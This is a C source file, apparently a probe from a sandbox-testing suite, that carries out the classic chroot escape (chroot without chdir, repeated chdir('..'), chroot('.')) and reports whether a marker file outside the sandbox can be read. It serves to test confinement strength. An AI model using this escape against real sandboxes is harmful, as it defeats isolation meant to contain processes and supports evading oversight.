/*
 * The classic chroot escape: chroot() into a fresh subdirectory WITHOUT chdir'ing into it, so the
 * working directory is left outside the new root; then chdir("..") repeatedly climbs to the real
 * root of the mount namespace, and chroot(".") makes that the root again. Then read a marker file
 * (argv[2], absolute) that only exists outside the sandbox. Escaped if its token (argv[3]) comes
 * back. argv[1] is a writable dir for the subdirectory, which is removed afterwards.
 */
#include "probe_common.c"

int main(int argc, char **argv)
{
    PROBE("chroot_escape");
    const char *dir = need_arg(argc, argv, 1, "writable DIR");
    const char *marker = need_arg(argc, argv, 2, "absolute PATH of an outside marker file");
    const char *token = argc > 3 ? argv[3] : NULL;
    if (marker[0] != '/') report(ERROR, "marker path must be absolute: %s", marker);
    int parent = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (parent < 0) report(ERROR, "open %s: %s", dir, en(errno));
    char sub[64];
    snprintf(sub, sizeof sub, "chroot-probe-%d", (int)getpid());
    if (mkdirat(parent, sub, 0700) < 0) report(ERROR, "mkdir %s/%s: %s", dir, sub, en(errno));
    char subpath[4200];
    snprintf(subpath, sizeof subpath, "%s/%s", dir, sub);
    if (chroot(subpath) < 0) {
        int e = errno;
        unlinkat(parent, sub, AT_REMOVEDIR);
        report(BLOCKED, "chroot(%s): %s", subpath, en(e));
    }
    for (int i = 0; i < 256; i++)
        if (chdir("..") < 0) break;
    int rechroot = chroot(".");
    int re = errno;
    unlinkat(parent, sub, AT_REMOVEDIR);
    /* Relative to the working directory, which is now the top of the mount namespace. */
    int fd = open(marker + 1, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        report(BLOCKED, "chroot ok, climbed with chdir(..) (re-chroot: %s), but the marker %s is not there: %s",
               rechroot == 0 ? "ok" : en(re), marker, en(errno));
    judge_read(fd, "chroot, chdir(..) x256, then the marker", token);
}
